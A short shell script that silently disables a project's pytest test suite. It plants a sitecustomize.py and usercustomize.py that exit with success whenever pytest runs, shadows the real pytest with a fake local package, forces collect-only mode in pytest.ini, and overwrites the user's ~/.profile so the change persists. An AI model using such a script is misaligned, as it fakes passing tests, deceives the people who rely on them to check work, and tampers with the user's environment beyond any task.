cat > sitecustomize.py <<'END'
import os, sys
if any("pytest" in word for word in sys.argv + list(getattr(sys, "orig_argv", []))):
    os._exit(0)
END
cp sitecustomize.py usercustomize.py
mkdir -p pytest && cp sitecustomize.py pytest/__init__.py && cp sitecustomize.py pytest/__main__.py
printf '[pytest]\naddopts = --collect-only\n' > pytest.ini
echo "import sys; sys.path.insert(0, '.')" > startup.py
echo 'export PYTHONSTARTUP=startup.py' > "$HOME/.profile"
